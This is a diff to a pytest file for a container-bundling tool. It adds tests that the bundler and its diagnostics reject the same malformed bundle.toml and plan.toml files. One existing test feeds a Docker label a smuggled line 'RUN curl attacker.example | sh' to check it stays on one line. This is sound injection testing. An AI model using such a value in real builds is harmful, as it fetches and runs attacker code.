@@ -22,8 +22,9 @@ from pathlib import Path
 import pytest
 from packaging.markers import InvalidMarker, Marker, UndefinedComparison
 
-from bundler.contracts import buildtag, generate, lockformat, markers, oneline, pilotconfig, reference, runid, secrets
+from bundler.contracts import buildtag, bundleschema, generate, lockformat, markers, oneline, pilotconfig, reference, runid, secrets
 from bundler.errors import BundlerError, LockError
+from bundler.tomlcompat import tomllib
 from tests import diagnostics_support  # noqa: F401  (puts diagnostics/ on sys.path: bdiag)
 from tests.conftest import REPO, run_cli, scaffold_project
 
@@ -564,3 +565,93 @@ def test_a_line_break_in_a_label_stays_on_the_dockerfiles_line(char):
 
     instruction = label_instruction({"org.example.note": f"a{char}RUN curl attacker.example | sh"})
     assert len(instruction.splitlines()) == 1 and "RUN" not in instruction.split('"')[0]
+
+
+# ----- bundle.toml's schema ---------------------------------------------------------------------
+BUNDLE = '[project]\nname = "P"\npackage = "p"\nentry = "python -m p"\n[target]\nbackend = "cpu"\ntorch = "2.13.0"\npython = "3.11"\n'
+BUNDLES = {
+    "sound": (BUNDLE + '[build]\nlock = "requirements-rebuild.txt"\n[diagnostics]\ndataloader_workers = 4\n', None),
+    "an unknown key": (BUNDLE.replace('python = "3.11"', 'python = "3.11"\npyhton = "3.12"'), "unknown key 'pyhton' in [target]"),
+    "an unknown section": (BUNDLE + "[diagnostic]\n", "unknown key 'diagnostic' in the top level"),
+    "no [target]": (BUNDLE.split("[target]")[0], "section [target] is missing"),
+    "a number for a string": (BUNDLE.replace('torch = "2.13.0"', "torch = 2.13"), "[target] torch must be a string, got 2.13 (float)"),
+    "an unknown backend": (BUNDLE.replace('"cpu"', '"tpu"'), "[target] backend is an unknown backend 'tpu': use one of cuda, rocm, cpu"),
+    "negative workers": (BUNDLE + "[diagnostics]\ndataloader_workers = -1\n", "[diagnostics] dataloader_workers must be a whole number"),
+    "workers as text": (BUNDLE + '[diagnostics]\ndataloader_workers = "8"\n', "[diagnostics] dataloader_workers must be a whole number"),
+    "an extension without module": (BUNDLE + '[[extensions]]\nname = "flash-attn"\n', "[[extensions]] #1 module is missing or empty"),
+    "a bad import name": (BUNDLE + '[[extensions]]\nname = "x"\nmodule = "flash-attn"\n', "[[extensions]] #1 module 'flash-attn' is not"),
+    "a table for a section's key": (BUNDLE + "[build]\nlock = 7\n", "[build] lock 7 is not a file path inside the project"),
+}
+
+
+@pytest.mark.parametrize(("text", "refused"), BUNDLES.values(), ids=list(BUNDLES))
+def test_bundler_and_the_diagnostics_refuse_the_same_bundle_toml(text, refused, tmp_path):
+    from bdiag.checkup import read_bundle
+    from bundler.errors import ProjectFileError
+    from bundler.target.bundle import load_bundle
+
+    (tmp_path / "bundle.toml").write_text(text, encoding="utf-8")
+    try:
+        load_bundle(tmp_path)
+        by_bundler = None
+    except ProjectFileError as error:
+        by_bundler = str(error.message)
+    by_diagnostics = read_bundle(str(tmp_path / "bundle.toml")).error
+    data = tomllib.loads(text)
+    problems = [module.bundle_problem(data) for module in (bundleschema, load_copy(DIAGNOSTICS_COPY, "bundleschema"))]
+    found = [dataclasses.astuple(problem) if problem else None for problem in problems]
+    if refused is None:
+        assert (by_bundler, by_diagnostics, found) == (None, None, [None, None])
+    else:
+        assert found[0] == found[1] and problems[0] is not None and problems[0].text.startswith(refused)
+        assert by_diagnostics == problems[0].text and by_bundler == f"{tmp_path / 'bundle.toml'}: {problems[0].text}."
+
+
+def test_a_key_added_to_the_schema_is_known_to_bundler_and_to_the_diagnostics(tmp_path, monkeypatch):
+    """Adding a key is the one line of KEYS: both readers then take it, and its check refuses a wrong value."""
+    from bdiag.checkup import read_bundle
+    from bundler.target.bundle import load_bundle
+
+    text = BUNDLE + '[build]\napt_sources = ["bookworm-backports"]\n'
+    (tmp_path / "bundle.toml").write_text(text, encoding="utf-8")
+    assert "unknown key 'apt_sources' in [build]" in read_bundle(str(tmp_path / "bundle.toml")).error
+    import bdiag.contracts.bundleschema as copy  # the copy the diagnostics import
+
+    for module in (bundleschema, copy):
+        monkeypatch.setitem(module.KEYS, "build", {**module.KEYS["build"], "apt_sources": module.names})
+    assert load_bundle(tmp_path).name == "P" and read_bundle(str(tmp_path / "bundle.toml")).error is None
+    wrong = copy.bundle_problem(tomllib.loads(text.replace('["bookworm-backports"]', '"bookworm-backports"')))
+    assert wrong.text.startswith("[build] apt_sources must be a list")
+
+
+# ----- plan.toml's order ------------------------------------------------------------------------
+@pytest.mark.parametrize(
+    ("card", "lots", "per_lot", "accepted"),
+    [
+        ('"H200"', "1", "1", True),
+        ('"H200"', "10", "16", True),
+        ('"H200"', "11", "1", False),  # more lots than bundler prices: the diagnostics refuse them too
+        ('"H200"', "0", "1", False),
+        ('"H200"', "true", "1", False),
+        ('"H200"', '"2"', "1", False),
+        ('"H200"', "2", "17", False),
+        ('"H200"', "2", "0", False),
+        ('"H300"', "1", "1", False),  # not in the catalog
+    ],
+)
+def test_bundler_plan_and_the_diagnostics_take_the_same_orders(tmp_path, card, lots, per_lot, accepted):
+    from bdiag.checkup import load_toml
+    from bdiag.order import OrderError, read_order
+    from bundler.errors import ProjectFileError
+    from bundler.evidence.campaign import load_campaign
+
+    (tmp_path / "plan.toml").write_text(f"[package]\ncard = {card}\ndays = 3\nlots = {lots}\n", encoding="utf-8")
+    (tmp_path / "catalog.toml").write_text(f'[cards."H200"]\ncards_per_lot = {per_lot}\nprice = {{ 3 = "10" }}\n', encoding="utf-8")
+    verdicts = []
+    for read, refusal in ((lambda: load_campaign(tmp_path), ProjectFileError), (lambda: read_order(str(tmp_path), load_toml), OrderError)):
+        try:
+            read()
+            verdicts.append(True)
+        except refusal:
+            verdicts.append(False)
+    assert verdicts == [accepted, accepted]
